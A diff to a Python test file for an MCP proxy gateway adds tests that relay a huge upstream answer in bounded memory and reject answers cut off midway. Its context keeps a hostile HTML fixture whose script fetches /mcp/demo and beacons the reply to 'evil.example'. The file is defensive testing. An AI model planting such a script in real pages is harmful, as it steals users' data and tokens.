@@ -1,5 +1,5 @@
-"""A hostile upstream gets nothing (issue 16, item 1): its HTML never runs on mcpproxy's origin, and no
-other site's page reaches /mcp with a server's token.
+"""A hostile upstream gets nothing (issue 16, items 1 and 4): its HTML never runs on mcpproxy's origin, no
+other site's page reaches /mcp with a server's token, and no answer's size grows the gateway.
 
 The hostile upstream is this test's own HTTP server on loopback: it answers every request with an HTML
 page whose script would call /mcp/OTHER, and records what reached it.
@@ -7,16 +7,18 @@ page whose script would call /mcp/OTHER, and records what reached it.
 
 from __future__ import annotations
 
+import os
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
+import psutil
 import pytest
 import requests
 
 from tests.conftest import ServiceFactory
-from tests.harness import ServiceHandle
+from tests.harness import ServiceHandle, wait_until
 from tests.mcpserver.control import MCPServerHandle
 
 PAGE = b"<html><script>fetch('/mcp/demo',{method:'POST',body:'{}'}).then(r=>r.text()).then(t=>navigator.sendBeacon('http://evil.example',t))</script></html>"
@@ -121,3 +123,153 @@ def test_an_upstream_html_page_is_never_served(svc: ServiceHandle, hostile: Host
         _assert_sealed(r)
     assert len(hostile.requests) == 3
     assert "hostile" in svc.logs() and "not relayed" in svc.logs()
+
+
+# ---- item 4: an upstream's answer of any size passes through in bounded memory ------------------
+
+#: The answer's size; MCPPROXY_BIG_ANSWER_MB=300 measures the issue's case (about 10 s on this machine).
+BIG_MB = int(os.environ.get("MCPPROXY_BIG_ANSWER_MB", "64"))
+CHUNK = 1024 * 1024
+
+
+class BigUpstream:
+    """An MCP server whose every answer is one JSON-RPC result `size` bytes long, written 1 MiB at a time."""
+
+    def __init__(self, size: int) -> None:
+        head, tail = b'{"jsonrpc":"2.0","id":1,"result":{"blob":"', b'"}}'
+        self.size = size
+
+        class Handler(BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def do_POST(self) -> None:  # noqa: N802 — http.server's name
+                self.rfile.read(int(self.headers.get("Content-Length") or 0))
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(size))
+                self.end_headers()
+                try:
+                    self.wfile.write(head)
+                    left = size - len(head) - len(tail)
+                    block = b"A" * CHUNK
+                    while left > 0:
+                        self.wfile.write(block[:left])
+                        left -= CHUNK
+                    self.wfile.write(tail)
+                except (BrokenPipeError, ConnectionResetError):
+                    pass
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/mcp"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+        self.thread.join(5)
+
+
+def relay_and_measure(svc: ServiceHandle, name: str) -> tuple[int, int, bytes, requests.Response]:
+    """Streams one answer through /mcp/NAME, discarding it as it comes, while sampling the gateway's RSS every
+    10 ms: (bytes received, peak RSS growth in bytes, the answer's last bytes, the response)."""
+    assert svc.proc is not None
+    gateway = psutil.Process(svc.proc.pid)
+    base = gateway.memory_info().rss
+    peak = base
+    done = threading.Event()
+
+    def sample() -> None:
+        nonlocal peak
+        while not done.is_set():
+            peak = max(peak, gateway.memory_info().rss)
+            done.wait(0.01)
+
+    sampler = threading.Thread(target=sample, daemon=True)
+    sampler.start()
+    received, last = 0, b""
+    try:
+        with requests.post(f"{svc.base_url}/mcp/{name}", json=INITIALIZE, headers={"Accept": MCP_ACCEPT},
+                           stream=True, timeout=(10, 120)) as r:
+            for chunk in r.iter_content(CHUNK):
+                received += len(chunk)
+                last = (last + chunk)[-64:]
+    finally:
+        done.set()
+        sampler.join(5)
+    peak = max(peak, gateway.memory_info().rss)
+    return received, peak - base, last, r
+
+
+def test_a_huge_upstream_answer_passes_through_in_bounded_memory(service_factory: ServiceFactory) -> None:
+    size = BIG_MB * 1024 * 1024
+    big = BigUpstream(size)
+    try:
+        svc = service_factory([{"name": "big", "url": big.url, "protocol": "http", "oauth": None}])
+        received, growth, last, r = relay_and_measure(svc, "big")
+        print(f"\n{BIG_MB} MB answer through /mcp: the gateway grew by {growth / 2**20:.1f} MiB (peak RSS)")
+        assert r.status_code == 200 and r.headers["Content-Type"].startswith("application/json"), dict(r.headers)
+        _assert_sealed(r)
+        assert received == size and last.endswith(b'AAAA"}}'), (received, last)
+        # Whole-answer buffering grew it by about three times the answer; streaming by a few buffers.
+        assert growth < 24 * 2**20, f"the gateway grew by {growth / 2**20:.0f} MiB relaying {BIG_MB} MiB"
+        assert requests.get(f"{svc.base_url}/readyz", timeout=10).status_code == 200
+    finally:
+        big.close()
+
+
+class CutOffUpstream:
+    """Promises an answer (by Content-Length, or chunked) and hangs up halfway through it."""
+
+    def __init__(self) -> None:
+        class Handler(BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def do_POST(self) -> None:  # noqa: N802 — http.server's name
+                self.rfile.read(int(self.headers.get("Content-Length") or 0))
+                chunked = "chunked" in self.path
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Transfer-Encoding" if chunked else "Content-Length",
+                                 "chunked" if chunked else str(4 * CHUNK))
+                self.end_headers()
+                half = b'{"jsonrpc":"2.0","id":1,"result":{"blob":"' + b"A" * (2 * CHUNK)
+                self.wfile.write(b"%x\r\n%s\r\n" % (len(half), half) if chunked else half)
+                self.wfile.flush()
+                self.close_connection = True
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+        self.thread.join(5)
+
+
+def test_an_answer_cut_off_upstream_is_never_passed_on_as_whole(service_factory: ServiceFactory) -> None:
+    cut = CutOffUpstream()
+    try:
+        svc = service_factory([{"name": "sized", "url": cut.url + "/sized", "protocol": "http", "oauth": None},
+                               {"name": "chunked", "url": cut.url + "/chunked", "protocol": "http", "oauth": None}])
+        for name in ("sized", "chunked"):
+            with pytest.raises(requests.exceptions.ChunkedEncodingError):
+                with requests.post(f"{svc.base_url}/mcp/{name}", json=INITIALIZE, headers={"Accept": MCP_ACCEPT},
+                                   stream=True, timeout=(10, 60)) as r:
+                    assert r.status_code == 200
+                    for _chunk in r.iter_content(CHUNK):
+                        pass
+        wait_until(lambda: svc.logs().count("upstream answer broke off") >= 2, 10, "the cut-off logged")
+        assert requests.get(f"{svc.base_url}/readyz", timeout=10).status_code == 200
+    finally:
+        cut.close()
